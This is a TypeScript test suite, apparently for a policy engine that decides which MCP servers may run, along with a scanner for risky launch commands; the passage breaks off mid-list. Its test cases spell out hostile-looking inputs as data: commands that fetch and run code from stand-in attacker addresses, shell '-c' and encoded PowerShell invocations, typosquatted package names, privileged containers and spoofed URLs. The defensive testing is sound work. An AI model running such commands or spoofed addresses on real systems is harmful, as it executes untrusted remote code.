import { assert, describe, it } from "@effect/vitest"
import * as FastCheck from "effect/FastCheck"
import * as Dialect from "../../src/config/Dialect.ts"
import type * as Document from "../../src/config/document.ts"
import { hazards } from "../../src/config/hazards.ts"
import * as PolicyWords from "../../src/config/policyWords.ts"
import * as Reader from "../../src/config/reader.ts"
import * as Scope from "../../src/config/Scope.ts"
import type * as ServerEntry from "../../src/config/serverEntry.ts"
import * as ServerPolicy from "../../src/config/ServerPolicy.ts"
import * as Configs from "../support/configs.ts"

const policy = (of: Partial<ServerPolicy.Policy> = {}): ServerPolicy.Policy => ({
  provider: "native",
  scope: "managed",
  origin: "system",
  allow: [],
  deny: [],
  ordered: [],
  managedOnly: false,
  identities: undefined,
  broken: false,
  ...of
})

const program = (name: string, ...argv: ReadonlyArray<string>): ServerPolicy.Subject => ({
  name,
  argv,
  url: undefined,
  fingerprint: undefined,
  provider: undefined
})

const at = (url: string, name = "s"): ServerPolicy.Subject => ({
  name,
  argv: undefined,
  url,
  fingerprint: undefined,
  provider: undefined
})

const byName = (pattern: string): ServerPolicy.Matcher => ({ _tag: "Name", pattern })
const byUrl = (pattern: string): ServerPolicy.Matcher => ({ _tag: "Url", pattern })
const byCommand = (...argv: ReadonlyArray<string>): ServerPolicy.Matcher => ({ _tag: "Command", argv })

const denied = (pattern: string, url: string): boolean =>
  ServerPolicy.decide([policy({ deny: [byUrl(pattern)] })], at(url)) === "denied"

const allowed = (pattern: string, url: string): boolean =>
  ServerPolicy.decide([policy({ allow: [byUrl(pattern)] })], at(url)) === "allowed"

const value = (of: unknown): Document.Value =>
  Array.isArray(of)
    ? of.map(value)
    : typeof of === "object" && of !== null
    ? table(of)
    : of as Document.Value

const table = (of: object): Document.Table => new Map(Object.entries(of).map(([key, inner]) => [key, value(inner)]))

const managed = { provider: "native", scope: "managed", origin: "system" } as const
const workspace = { provider: "native", scope: "project", origin: "workspace" } as const

const read = (document: object, from: Parameters<typeof PolicyWords.read>[2] = managed) =>
  PolicyWords.read("native", table(document), from)

const words = FastCheck.constantFrom("a", "b", "*", "a*", "*b", "npx", "__proto__")
const urls = FastCheck.constantFrom(
  "https://a.example/x",
  "https://b.example/",
  "http://a.example:8080/x",
  "${env:X}/y"
)
const matcher: FastCheck.Arbitrary<ServerPolicy.Matcher> = FastCheck.oneof(
  words.map(byName),
  FastCheck.array(words, { minLength: 1, maxLength: 2 }).map((argv) => byCommand(...argv)),
  words.map((pattern): ServerPolicy.Matcher => ({ _tag: "CommandLine", pattern })),
  words.map((command): ServerPolicy.Matcher => ({ _tag: "Program", pattern: command })),
  FastCheck.constantFrom("*", "https://a.example/*", "https://*/*", "http://*.example/*", "*a*").map(byUrl)
)
const matchers = FastCheck.array(matcher, { maxLength: 2 })
const policies = (origins: ReadonlyArray<Scope.Origin>) =>
  FastCheck.record({
    provider: FastCheck.constant("native"),
    scope: FastCheck.constantFrom(...Scope.order),
    origin: FastCheck.constantFrom(...origins),
    allow: matchers,
    deny: matchers,
    ordered: FastCheck.array(
      FastCheck.record({ action: FastCheck.constantFrom("allow" as const, "deny" as const), matcher }),
      { maxLength: 2 }
    ),
    managedOnly: FastCheck.boolean(),
    requireIdentity: FastCheck.boolean(),
    identities: FastCheck.option(
      FastCheck.array(FastCheck.tuple(words, matcher), { maxLength: 2 }).map((all) => new Map(all)),
      { nil: undefined }
    ),
    broken: FastCheck.constantFrom(false, false, false, true)
  })
const any = FastCheck.array(policies(["system", "code", "home", "workspace", "plugin"]), { maxLength: 3 })
const subjects = FastCheck.oneof(
  FastCheck.tuple(words, FastCheck.array(words, { minLength: 1, maxLength: 3 })).map(([name, argv]) =>
    program(name, ...argv)
  ),
  FastCheck.tuple(words, urls).map(([name, url]) => at(url, name))
)

describe("a list of what is allowed", () => {
  it("means a command line word by word, and no longer one (perm-045)", () => {
    const only = [policy({ allow: [byCommand("npx", "-y", "@a/b@1.2.3")] })]
    assert.strictEqual(ServerPolicy.decide(only, program("s", "npx", "-y", "@a/b@1.2.3")), "allowed")
    assert.notStrictEqual(ServerPolicy.decide(only, program("s", "npx", "-y", "@a/b@1.2.3", "--evil")), "allowed")
    assert.notStrictEqual(ServerPolicy.decide(only, program("s", "npx", "-y")), "allowed")
  })
})

describe("a list that requires an identity", () => {
  const github = program("github", "npx", "-y", "@evil/server")
  const strict = (...allow: ReadonlyArray<ServerPolicy.Matcher>) => [policy({ allow, requireIdentity: true })]
  const decide = (policies: ReadonlyArray<ServerPolicy.Policy>, subject = github) =>
    ServerPolicy.decide(policies, subject)

  it("allows nothing by its name alone, because a name is no identity (perm-046)", () => {
    assert.strictEqual(decide([policy({ allow: [byName("github")] })]), "allowed")
    for (const name of ["github", "git*", "*"]) {
      assert.strictEqual(decide(strict(byName(name))), "not-allowed", name)
      assert.strictEqual(decide(strict(byName(name)), at("https://h.example/mcp", "github")), "not-allowed", name)
      // better rules about servers of another kind do not make it one
      assert.strictEqual(decide(strict(byName(name), byUrl("https://h.example/*"))), "not-allowed", name)
    }
    const docker = ServerPolicy.subject(Configs.docker({ name: "github" }))
    assert.strictEqual(decide(strict(byName("github")), docker), "not-allowed")
  })

  it("allows what it knows by what is run or reached", () => {
    const known: ReadonlyArray<ServerPolicy.Matcher> = [
      byCommand("npx", "-y", "@evil/server"),
      { _tag: "CommandLine", pattern: "npx *" },
      { _tag: "Program", pattern: "npx" },
      { _tag: "Fingerprint", pattern: "f" }
    ]
    for (const matcher of known) {
      assert.strictEqual(decide(strict(byName("other"), matcher), { ...github, fingerprint: "f" }), "allowed")
    }
    assert.strictEqual(decide(strict(byUrl("https://h.example/*")), at("https://h.example/mcp")), "allowed")
  })

  it("limits nothing without a list, and denies by name as before", () => {
    assert.strictEqual(decide(strict()), "allowed")
    assert.strictEqual(decide([policy({ deny: [byName("git*")], requireIdentity: true })]), "denied")
  })

  it("denies by name whatever the case of the name, and allows only the name as written", () => {
    assert.strictEqual(decide([policy({ deny: [byName("GIT*")] })]), "denied")
    assert.strictEqual(decide([policy({ allow: [byName("GIT*")] })]), "not-allowed")
  })

  it("binds no name to itself", () => {
    const bound = (matcher: ServerPolicy.Matcher) => [
      policy({ identities: new Map([["github", matcher]]), requireIdentity: true })
    ]
    assert.strictEqual(decide(bound(byName("github"))), "not-allowed")
    assert.strictEqual(decide(bound({ _tag: "Program", pattern: "npx" })), "allowed")
  })

  it("speaks of itself, and not of the lists of others", () => {
    const names = policy({ scope: "user", origin: "home", allow: [byName("github")] })
    assert.strictEqual(decide([names, ...strict()]), "allowed")
    assert.strictEqual(decide([names, ...strict(byCommand("npx", "-y", "@evil/server"))]), "allowed")
    assert.strictEqual(decide([names, ...strict(byName("github"))]), "not-allowed")
    // an administrator's word makes it void like any list
    const only = policy({ managedOnly: true, allow: [byName("github")] })
    assert.strictEqual(decide([only, { ...strict(byName("github"))[0]!, scope: "user", origin: "home" }]), "allowed")
  })

  it("lets no name go before what is denied in an order", () => {
    const deny = { action: "deny", matcher: { _tag: "CommandLine", pattern: "*" } } as const
    const ordered = [{ action: "allow", matcher: byName("github") } as const, deny]
    assert.strictEqual(decide([policy({ ordered })]), "allowed")
    assert.strictEqual(decide([policy({ ordered, requireIdentity: true })]), "denied")
  })

  it.prop(
    "never allows more, and nothing that it would not allow under another name",
    [any, subjects],
    ([all, subject]) => {
      const required = all.map((one) => ({ ...one, requireIdentity: true }))
      if (decide(required, subject) === "allowed") assert.strictEqual(decide(all, subject), "allowed")
      const isNameDenied = ({ action, matcher }: ServerPolicy.Policy["ordered"][number]) =>
        action === "deny" && matcher._tag === "Name"
      const unnamed = required.map((one) => ({
        ...one,
        deny: [],
        identities: undefined,
        ordered: one.ordered.filter((rule) => !isNameDenied(rule))
      }))
      assert.strictEqual(decide(unnamed, { ...subject, name: "other" }), decide(unnamed, subject))
    }
  )

  it("is written in a file, and what is written wrongly is meant all the same", () => {
    const allow = [{ name: "github" }]
    const decided = (requireIdentity: unknown) => {
      const { issues: invalid, policy: own } = read({ policy: { allow, requireIdentity } })
      return [decide([own!]), invalid.map(({ at }) => at).join()]
    }
    assert.deepStrictEqual(decided(true), ["not-allowed", ""])
    assert.deepStrictEqual(decided(false), ["allowed", ""])
    assert.deepStrictEqual(decided("yes"), ["not-allowed", "policy/requireIdentity"])
    const names = read({ policy: { requireIdentity: true }, security: { mcp_server_allowlist: ["github"] } })
    assert.strictEqual(decide([names.policy!]), "not-allowed")
  })
})

describe("ServerPolicy.decide", () => {
  it("allows everything where nobody says anything", () => {
    assert.strictEqual(ServerPolicy.decide([], program("a", "x")), "allowed")
    assert.strictEqual(ServerPolicy.decide([policy()], program("a", "x")), "allowed")
  })

  it("lets a denial win over any permission", () => {
    const own = policy({ allow: [byName("*")] })
    for (const scope of Scope.order) {
      for (const origin of ["system", "home", "workspace", "plugin"] as const) {
        const other = policy({ scope, origin, deny: [byName("a")] })
        assert.strictEqual(ServerPolicy.decide([own, other], program("a", "x")), "denied")
      }
    }
  })

  it("takes no name for a server of a kind of which a list has better rules", () => {
    const own = policy({
      allow: [byUrl("https://*.example.com/*"), byCommand("npx", "-y", "approved"), byName("byname")],
      deny: [byUrl("https://staging.example.com/*")],
      managedOnly: true
    })
    const decide = (subject: ServerPolicy.Subject) => ServerPolicy.decide([own], subject)
    assert.strictEqual(decide(at("https://mcp.example.com/api")), "allowed")
    assert.strictEqual(decide(at("https://staging.example.com/x")), "denied")
    assert.strictEqual(decide(program("cmd", "npx", "-y", "approved")), "allowed")
    assert.strictEqual(decide(program("cmd2", "npx", "-y", "approved", "--flag")), "not-allowed")
    assert.strictEqual(decide(program("byname", "evil")), "not-allowed")
    assert.strictEqual(decide(at("https://evil.example", "byname")), "not-allowed")
    const onlyUrls = policy({ allow: [byUrl("https://*.example.com/*"), byName("byname")] })
    assert.strictEqual(ServerPolicy.decide([onlyUrls], program("byname", "local")), "allowed")
  })

  it("lets the first rule decide that matches, where rules have an order", () => {
    const line = (pattern: string): ServerPolicy.Matcher => ({ _tag: "CommandLine", pattern })
    const own = policy({
      scope: "user",
      origin: "home",
      ordered: [
        { action: "allow", matcher: line("npx @modelcontextprotocol/server-*") },
        { action: "allow", matcher: byUrl("https://trusted.example.com/mcp/*") },
        { action: "deny", matcher: byUrl("*") },
        { action: "deny", matcher: line("*") }
      ]
    })
    const decide = (subject: ServerPolicy.Subject) => ServerPolicy.decide([own], subject)
    assert.strictEqual(decide(program("a", "npx", "@modelcontextprotocol/server-fs")), "allowed")
    assert.strictEqual(decide(at("https://x.example.com/mcp")), "denied")
    assert.strictEqual(decide(at("https://trusted.example.com/mcp/1")), "allowed")
    assert.strictEqual(decide(at("https://trusted.example.com/mcp/../admin")), "denied")
    assert.strictEqual(decide(program("d", "sh")), "denied")
  })

  it("binds names to what they were bound to", () => {
    const own = policy({
      identities: new Map([
        ["docs", { _tag: "Program", pattern: "docs-mcp" }],
        ["api", byUrl("https://api.example.com/mcp")]
      ])
    })
    const decide = (subject: ServerPolicy.Subject) => ServerPolicy.decide([own], subject)
    assert.strictEqual(decide(program("docs", "docs-mcp", "--any")), "allowed")
    assert.strictEqual(decide(at("https://api.example.com/mcp", "api")), "allowed")
    assert.strictEqual(decide(at("https://other.example.com/mcp", "api")), "not-allowed")
    assert.strictEqual(decide(program("extra", "extra")), "not-allowed")
    assert.strictEqual(decide(program("toString", "docs-mcp")), "not-allowed")
  })

  it("wants a server to be in each of several lists, but for an administrator's word", () => {
    const user = policy({ scope: "user", origin: "home", allow: [byName("a"), byName("b")] })
    const project = policy({ scope: "project", origin: "workspace", allow: [byName("b")], managedOnly: true })
    assert.strictEqual(ServerPolicy.decide([user, project], program("b", "x")), "allowed")
    assert.strictEqual(ServerPolicy.decide([user, project], program("a", "x")), "not-allowed")
    const only = policy({ managedOnly: true, allow: [byName("c")] })
    assert.strictEqual(ServerPolicy.decide([user, project, only], program("c", "x")), "allowed")
    assert.strictEqual(ServerPolicy.decide([user, project, only], program("b", "x")), "not-allowed")
  })

  it("asks a host's own list about that host's servers only, unless it is an administrator's", () => {
    const own = policy({
      provider: "gemini-cli",
      scope: "user",
      origin: "home",
      allow: [byName("a")],
      deny: [byName("c")]
    })
    const of = (provider: string, name: string) => ({ ...program(name, "x"), provider })
    assert.strictEqual(ServerPolicy.decide([own], of("gemini-cli", "b")), "not-allowed")
    assert.strictEqual(ServerPolicy.decide([own], of("cursor", "b")), "allowed")
    assert.strictEqual(ServerPolicy.decide([own], of("cursor", "c")), "denied")
    const administrators = policy({ ...own, scope: "managed", origin: "system" })
    assert.strictEqual(ServerPolicy.decide([administrators], of("cursor", "b")), "not-allowed")
  })

  it("allows nothing while a policy could not be read", () => {
    assert.strictEqual(
      ServerPolicy.decide([policy({ broken: true, allow: [byName("*")] })], program("a", "x")),
      "denied"
    )
  })

  it("knows a server by its fingerprint, with and without the name of the digest", () => {
    const own = policy({ allow: [{ _tag: "Fingerprint", pattern: "sha256:ab" }, byCommand("other")] })
    assert.strictEqual(ServerPolicy.decide([own], { ...program("a", "x"), fingerprint: "ab" }), "allowed")
    assert.strictEqual(ServerPolicy.decide([own], { ...program("a", "x"), fingerprint: "abc" }), "not-allowed")
    assert.strictEqual(ServerPolicy.decide([own], program("a", "x")), "not-allowed")
  })

  it("denies an address however it is written", () => {
    for (
      const url of [
        "https://API.Bad.Example:443/mcp",
        "https://api.bad.example./mcp",
        "https://api.bad.example../mcp",
        "https://user:pass@api.bad.example/mcp",
        "HTTPS://api.bad.example",
        "https://api.%62ad.example/",
        "https://x.api.bad.example/",
        "https://api.bad.example:8443/"
      ]
    ) assert.isTrue(denied("https://*.bad.example/*", url), url)
    assert.isTrue(denied("https://bad.example/mcp", "https://bad.example/a/../%6Dcp?x=1"))
    assert.isTrue(denied("https://bad.example", "https://bad.example/any/thing"))
    assert.isTrue(denied("https://BÜCHER.example/*", "https://xn--bcher-kva.example/x"))
    assert.isTrue(denied("*evil*", "https://good.example/evil"))
    assert.isTrue(denied("http://127.0.0.1/*", "http://0x7f.1/x"))
    assert.isFalse(denied("https://*.bad.example/*", "https://good.example/.bad.example/x"))
    assert.isFalse(denied("https://*.bad.example/*", "https://notbad.example/x"))
    assert.isFalse(denied("https://*.bad.example:8443/*", "https://a.bad.example/x"))
  })

  it("is about the host that is asked, and not about what looks like one (url-105, url-106)", () => {
    assert.isTrue(denied("https://mcp.example/*", "https://mcp.example./mcp"))
    const spoofed = "https://mcp.example\\@attacker.example/"
    assert.isTrue(denied("https://mcp.example/*", spoofed))
    assert.isTrue(allowed("https://mcp.example/*", spoofed))
    assert.isFalse(denied("https://attacker.example/*", spoofed))
    assert.isFalse(allowed("https://attacker.example/*", spoofed))
  })

  it("allows no address that only looks like one of a list", () => {
    assert.isTrue(allowed("https://*.good.example/*", "https://api.good.example:443/mcp?x=1"))
    assert.isTrue(allowed("https://good.example/mcp", "https://GOOD.example/mcp"))
    assert.isTrue(allowed("*://good.example:*/*", "wss://good.example:8443/mcp"))
    assert.isTrue(allowed("*", "https://any.example/x"))
    assert.isTrue(allowed("https://good.example:443/*", "https://good.example/mcp"))
    assert.isFalse(allowed("https://good.example:443/*", "https://good.example:8443/mcp"))
    for (
      const url of [
        "https://evil.example/x.good.example/y",
        "https://evil.example?x.good.example/y",
        "https://evil.example#x.good.example/y",
        "https://x.good.example@evil.example/y",
        "https://x.good.example.evil.example/y",
        "https://evil.example\\.good.example/y",
        "http://api.good.example/mcp",
        "https://api.good.example:8443/mcp",
        "https://good.example/mcp",
        "not an address"
      ]
    ) assert.isFalse(allowed("https://*.good.example/*", url), url)
    assert.isFalse(allowed("https://good.example/a/*", "https://good.example/a/../b"))
    assert.isFalse(allowed("https://good.example", "https://good.example/any"))
    assert.isFalse(allowed("https://good.example/mcp", "https://good.example/mcp?x=1"))
  })

  // what took more than a time in proportion to it would not end within the time that a test has
  it("takes nothing in a pattern for more than it is, and no long time for it", () => {
    assert.isTrue(denied("https://h.example/a.b(c)+[d]?x=1", "https://h.example/a.b(c)+[d]?x=1"))
    assert.isFalse(denied("https://h.example/a.b", "https://h.example/axb"))
    const long = "a".repeat(1_000_000)
    assert.isTrue(denied(`*${"a".repeat(1_000)}*b`, `https://h.example/${long}b`))
    assert.isFalse(denied(`*b${"a".repeat(1_000)}b*`, `https://h.example/${long}`))
    assert.isFalse(denied("*a".repeat(1_000) + "b", `https://h.example/${long}`))
  })

  it("knows what a configuration starts or reaches", () => {
    const stdio = Configs.stdio({ name: "s", command: "npx", args: ["-y", "x"] })
    assert.deepStrictEqual(ServerPolicy.subject(stdio, "f"), { ...program("s", "npx", "-y", "x"), fingerprint: "f" })
    const docker = Configs.docker({ name: "d", profile: "p", args: ["--verbose"] })
    assert.deepStrictEqual(
      ServerPolicy.subject(docker),
      program("d", "docker", "mcp", "gateway", "run", "--profile", "p", "--verbose")
    )
    const http = Configs.http({ name: "h", url: "https://h.example/mcp" })
    assert.deepStrictEqual(ServerPolicy.subject(http), at("https://h.example/mcp", "h"))
  })

  it.prop("gives the same whatever the order of the policies", [any, subjects], ([all, subject]) => {
    assert.strictEqual(ServerPolicy.decide(all.toReversed(), subject), ServerPolicy.decide(all, subject))
  })

  it.prop(
    "never allows more for one more denial",
    [any, policies(["system", "home", "workspace"]), matchers, subjects],
    ([all, last, deny, subject]) => {
      const more = { ...last, deny: [...deny, ...last.deny] }
      if (ServerPolicy.decide([...all, last], subject) !== "allowed") {
        assert.notStrictEqual(ServerPolicy.decide([...all, more], subject), "allowed")
      }
    }
  )

  it.prop(
    "never allows more for what a workspace says",
    [any, policies(["workspace", "plugin"]), subjects],
    ([all, own, subject]) => {
      if (ServerPolicy.decide(all, subject) !== "allowed") {
        assert.notStrictEqual(ServerPolicy.decide([...all, own], subject), "allowed")
      }
    }
  )
})

describe("policyWords", () => {
  it("reads the rules of a policy and the lists of names beside it", () => {
    const { issues: invalid, policy: own } = read({
      policy: {
        allow: [{ url: "https://*.corp/*" }, { name: "a*" }, { fingerprint: "f" }, { program: "p" }, {
          commandLine: "c *"
        }],
        deny: [{ command: ["npx", "-y", "x"] }],
        managedOnly: true,
        exclusive: false,
        providers: ["native"]
      },
      security: { mcp_server_allowlist: ["b"], mcp_server_denylist: ["c"], other: 1 }
    })
    assert.deepStrictEqual(invalid, [])
    assert.deepStrictEqual(
      own,
      policy({
        allow: [
          byUrl("https://*.corp/*"),
          byName("a*"),
          { _tag: "Fingerprint", pattern: "f" },
          { _tag: "Program", pattern: "p" },
          { _tag: "CommandLine", pattern: "c *" },
          byName("b")
        ],
        deny: [byCommand("npx", "-y", "x"), byName("c")],
        managedOnly: true
      })
    )
  })

  it("says nothing about a document without a policy", () => {
    assert.deepStrictEqual(read({ mcpServers: {} }), { policy: undefined, permissions: [], issues: [] })
  })

  it("reports a bad rule and enforces the rest", () => {
    const { issues: invalid, policy: own } = read({
      policy: { deny: [{ url: "[" }, { name: "x" }, {}, 1, { name: "a", url: "b" }] }
    })
    assert.deepStrictEqual(invalid.map(({ at }) => at), [
      "policy/deny/0",
      "policy/deny/2",
      "policy/deny/3",
      "policy/deny/4"
    ])
    assert.strictEqual(ServerPolicy.decide([own!], program("x", "any")), "denied")
    assert.strictEqual(ServerPolicy.decide([own!], program("y", "any")), "allowed")
  })

  it("allows nothing where none of the rules that allow can be read", () => {
    for (const allow of [[{ url: "[" }], "everything", { name: "a" }, null]) {
      const { issues: invalid, policy: own } = read({ policy: { allow } })
      assert.isNotEmpty(invalid)
      assert.strictEqual(ServerPolicy.decide([own!], program("a", "x")), "denied")
    }
    assert.strictEqual(ServerPolicy.decide([read({ policy: 1 }).policy!], program("a", "x")), "denied")
    assert.strictEqual(ServerPolicy.decide([read({ policy: { deny: "a" } }).policy!], program("a", "x")), "denied")
  })

  it("reads no more rules than every server can be held against, and closes where an administrator has more", () => {
    const rules = (count: number) => Array.from({ length: count }, (_, at) => `s${at}`)
    for (const [origin, most] of [["workspace", 1_000], ["system", 10_000]] as const) {
      const from = { provider: "native", scope: origin === "system" ? "managed" : "project", origin } as const
      const read = (count: number) =>
        PolicyWords.read(
          "native",
          new Map([["security", new Map([["mcp_server_denylist", rules(count)]])]]),
          from
        )
      assert.strictEqual(read(most).policy?.deny.length, most)
      assert.deepStrictEqual(read(most).issues, [])
      const { issues: invalid, policy } = read(most + 1)
      assert.deepStrictEqual([policy?.deny, policy?.broken], [[], origin === "system"])
      assert.deepStrictEqual(invalid.map(({ at }) => at), ["security/mcp_server_denylist"])
      const theirs = Reader.decode(
        Dialect.find("claude-code")!,
        new Map([["deniedMcpServers", rules(most + 1).map((name) => new Map([["serverName", name]]))]]),
        { ...from, path: "/x/settings.json" }
      )
      assert.deepStrictEqual([theirs.policy?.deny, theirs.policy?.broken], [[], origin === "system"])
    }
  })

  it("does not let a workspace stop everything by a mistake", () => {
    const { issues: invalid, policy: own } = read({ policy: { allow: 1, deny: 2 } }, workspace)
    assert.strictEqual(invalid.length, 2)
    assert.strictEqual(ServerPolicy.decide([own!], program("a", "x")), "allowed")
  })

  it("reports words that a policy does not know, and flags that are none", () => {
    const { issues: invalid } = read({
      policy: { denied: [], managedOnly: "yes", exclusive: 1, providers: [1], "a\u001b[31m": 1 }
    })
    assert.sameMembers(invalid.map(({ at }) => at), [
      "policy/managedOnly",
      "policy/exclusive",
      "policy/providers/0",
      "policy/denied",
      "policy/a\\x1b[31m"
    ])
  })

  it.prop("takes any document whatever", [FastCheck.object({ maxDepth: 4 }), FastCheck.object({ maxDepth: 4 })], ([
    one,
    two
  ]) => {
    read({ policy: one, security: two })
    read({ policy: { allow: [one], deny: [two, one], managedOnly: one } }, workspace)
  })
})

describe("a rule with variables", () => {
  const variable = (name: string) => name === "HOME" ? "/home/u" : undefined

  it("gets the values of the environment", () => {
    const { issues, policy: own } = read({
      policy: { allow: [{ command: ["${HOME}/bin/srv"] }, { command: ["${env:HOME}/bin/other", "x"] }] }
    }, { ...managed, variable })
    assert.deepStrictEqual(issues, [])
    assert.deepStrictEqual(own?.allow, [byCommand("/home/u/bin/srv"), byCommand("/home/u/bin/other", "x")])
  })

  it("is left out without a value, and nothing more is allowed", () => {
    const { issues, policy: own } = read({
      policy: { deny: [{ name: "${NOPE}" }, { name: "x" }], allow: [{ url: "${NOPE}/*" }] }
    }, { ...managed, variable })
    assert.deepStrictEqual(issues.map(({ at }) => at), ["policy/allow/0", "policy/deny/0"])
    assert.deepStrictEqual([own?.deny, own?.allow, own?.broken], [[byName("x")], [], true])
  })

  it("denies everything only where an allow list of a person is empty for want of a value", () => {
    const claude = (serverUrl: string) =>
      PolicyWords.read("claude", table({ allowedMcpServers: [{ serverUrl }] }), {
        provider: "claude-code",
        scope: "user",
        origin: "home",
        variable
      }).policy
    assert.deepInclude(claude("${NOPE}/*"), { allow: [], broken: true })
    assert.deepInclude(claude("no address"), { allow: [], broken: false })
  })

  it("is left out of a policy of a workspace", () => {
    const { issues, policy: own } = read({ policy: { deny: [{ name: "${HOME}" }] } }, { ...workspace, variable })
    assert.deepStrictEqual([issues.length, own?.deny], [1, []])
  })
})

const entry = (command: string, ...args: ReadonlyArray<string>): ServerEntry.StdioEntry => ({
  transport: "stdio",
  name: "s",
  enabled: true,
  command,
  args
})

const kinds = (command: string, ...args: ReadonlyArray<string>): ReadonlyArray<string> =>
  hazards(entry(command, ...args)).map(({ at, kind }) => `${kind}:${at}`)

const line = (text: string): ReadonlyArray<string> => {
  const [command = "", ...args] = text.split(" ")
  return kinds(command, ...args)
}

describe("hazards", () => {
  it("finds packages that can become others", () => {
    const unpinned: ReadonlyArray<readonly [string, string]> = [
      ["npx -y some-mcp", "args.1"],
      ["npx some-mcp@latest --port 1", "args.0"],
      ["npx @scope/mcp@^1.0.0", "args.0"],
      ["npx --package=@scope/mcp@1 mcp", "args.0"],
      ["npx -p @scope/mcp mcp", "args.1"],
      ["/usr/bin/npx.cmd -y some-mcp", "args.1"],
      ["bunx some-mcp", "args.0"],
      ["pnpm --silent dlx some-mcp", "args.2"],
      ["yarn dlx -q some-mcp", "args.2"],
      ["npm exec -- some-mcp", "args.2"],
      ["uvx mcp-server-git", "args.0"],
      ["uvx --python 3.12 mcp-server-git>=1", "args.2"],
      ["uvx --from mcp-server-git[x] tool", "args.1"],
      ["uv tool run mcp-server-git", "args.2"],
      ["pipx run --spec mcp-server-git==1.* x", "args.2"],
      ["dnx Acme.Mcp --yes", "args.0"],
      ["dnx --source ./feed Acme.Mcp@1.* -- --port 1", "args.2"],
      ["dotnet tool exec -v quiet Acme.Mcp@", "args.4"],
      ["dotnet dnx Acme.Mcp@2.0", "args.1"],
      ["deno run -A npm:some-mcp", "args.2"],
      ["env A=b npx some-mcp", "args.2"],
      ["docker run -i --rm img:latest", "args.3"],
      ["podman run -e A -v data:/data img:1.2.3 --privileged", "args.5"]
    ]
    for (const [text, at] of unpinned) assert.deepStrictEqual(line(text), [`unpinned-package:${at}`], text)
  })

  it("has nothing to say about what is fixed, or local", () => {
    const digest = "a".repeat(64)
    for (
      const text of [
        "npx -y some-mcp@1.2.3",
        "npx @scope/mcp@1.2.3-rc.1 --token-file x",
        "npx ./local",
        "uvx mcp-server-git==2025.1.14",
        "uvx mcp-server-git@1.2 --repo x",
        "uvx --from mcp-server-git[x]==1.0 tool",
        "dnx Acme.Mcp@1.4.0-preview.2 --yes",
        "dotnet dnx --add-source ./feed Acme.Mcp@1.4.0.7",
        "dotnet run --project ./server",
        "deno run npm:some-mcp@1.2.3",
        "node server.js npx some-mcp",
        "uv run server.py",
        "npm start",
        "python -m server -c x",
        "bash script.sh -c",
        `docker run -i --rm --name x -v data:/data img@sha256:${digest} --privileged`,
        "docker ps",
        "my-mcp --max-tokens 1000 --token-file /x --url https://h.example/x?page=1",
        "docker-mcp run img"
      ]
    ) assert.deepStrictEqual(line(text), [], text)
  })

  it("finds code that comes from an address or stands in the arguments", () => {
    const remote: ReadonlyArray<readonly [string, string]> = [
      ["npx -y github:attacker/x", "args.1"],
      ["npx attacker/x", "args.0"],
      ["npx git+https://h.example/x.git", "args.0"],
      ["npx https://h.example/x.tgz", "args.0"],
      ["npx x@https://h.example/x.tgz", "args.0"],
      ["npx -c evil", "args.1"],
      ["uvx --from git+https://h.example/x tool", "args.1"],
      ["uvx x@git+https://h.example/x", "args.0"],
      ["deno run -A https://h.example/x.ts", "args.2"],
      ["sh -c evil", "args.0"],
      ["/bin/bash -lc evil", "args.0"],
      ["bash -o pipefail -c evil", "args.2"],
      ["powershell -NoProfile -enc AAAA", "args.1"],
      ["pwsh -Command evil", "args.0"],
      ["cmd /d /s /c evil", "args.2"],
      ["env -i sh -c evil", "args.2"],
      ["node --eval evil()", "args.0"],
      ["python3 -c evil", "args.0"]
    ]
    for (const [text, at] of remote) assert.deepStrictEqual(line(text), [`remote-code:${at}`], text)
    assert.deepStrictEqual(line("cmd /c npx -y some-mcp"), ["remote-code:args.0", "unpinned-package:args.3"])
  })

  it("looks through programs that start another one, and splits a command line that is one word", () => {
    const digest = "a".repeat(64)
    for (
      const [found, command, ...args] of [
        [["unpinned-package:args.1"], "env", "-S", "npx -y some-mcp"],
        [["unpinned-package:args.0"], "env", "-iSnpx -y some-mcp"],
        [["unpinned-package:args.0"], "env", "--split-string=npx -y some-mcp"],
        [["unpinned-package:args.2"], "env", "--split-string", "npx -y", "some-mcp"],
        [["unpinned-package:args.1"], "env", "-S", "env -u X 'npx' \"some-mcp\""],
        [["launch-override:args.1"], "env", "-S", "PATH=./bin npx some-mcp@1.0.0"],
        [["remote-code:args.0", "unpinned-package:args.1"], "cmd", "/c", "npx -y some-mcp"],
        [["remote-code:args.1", "unpinned-package:args.2"], "cmd.exe", "/d", "/s/c", "npx -y some-mcp"],
        [["unpinned-package:args.2"], "timeout", "60", "npx", "some-mcp"],
        [["unpinned-package:args.5"], "timeout", "-k", "5", "-v", "60", "npx", "some-mcp"],
        [["unpinned-package:args.4"], "ionice", "-c", "3", "npx", "-y", "some-mcp"],
        [["unpinned-package:args.2"], "uv", "run", "--with", "some-mcp", "server.py"],
        [["remote-code:args.3"], "uv", "run", "--extra", "a", "--with=git+https://h.example/x", "server.py"],
        [["remote-code:args.1"], "uv", "run", "https://h.example/server.py"],
        [[], "uv", "run", "--with", "some-mcp==1.0", "server.py"],
        [["visible-secret:args.1"], "env", "-S", "my-mcp --token abcdef"],
        [["unpinned-package:args.1"], "env", "-S", "docker run img", "--privileged"],
        [[], "env", "-S", `docker run img@sha256:${digest}`],
        [[], "cmd.exe"],
        [[], "env", "-S"]
      ] as const
    ) assert.deepStrictEqual<ReadonlyArray<string>>(kinds(command, ...args), found, [command, ...args].join(" "))
  })

  it("finds names that are nearly those of known packages", () => {
    assert.deepStrictEqual(line("npx -y @modelcontextprotoco1/server-filesystem@1.0.0"), ["near-name:args.1"])
    assert.deepStrictEqual(line("npx mcp-remot@1.0.0"), ["near-name:args.0"])
    assert.deepStrictEqual(line("uvx mcp-sevrer-git==1.0"), ["near-name:args.0"])
    assert.deepStrictEqual(line("npx @modelcontextprotocol/server-filesytem@1.0.0"), ["near-name:args.0"])
    assert.deepStrictEqual(line("npx @playwrigth/mcp@1.0.0"), ["near-name:args.0"])
    assert.deepStrictEqual(line("npx @modelcontextprotocol/server-filesystem@1.0.0"), [])
    assert.deepStrictEqual(line("npx @modelcontextprotocol/anything@1.0.0"), [])
    assert.deepStrictEqual(line("npx mcp-remote@1.0.0"), [])
  })

  it("finds containers that get power over the machine", () => {
    const of = (text: string): ReadonlyArray<string> =>
      line(text).filter((hazard) => !hazard.startsWith("unpinned")).map((hazard) => hazard.replace(/^.*args\./, ""))
    assert.deepStrictEqual(line("docker run --privileged -v /:/host img:latest"), [
      "privileged-container:args.1",
      "privileged-container:args.3",
      "unpinned-package:args.4"
    ])
    for (
      const option of [
        "--privileged=true",
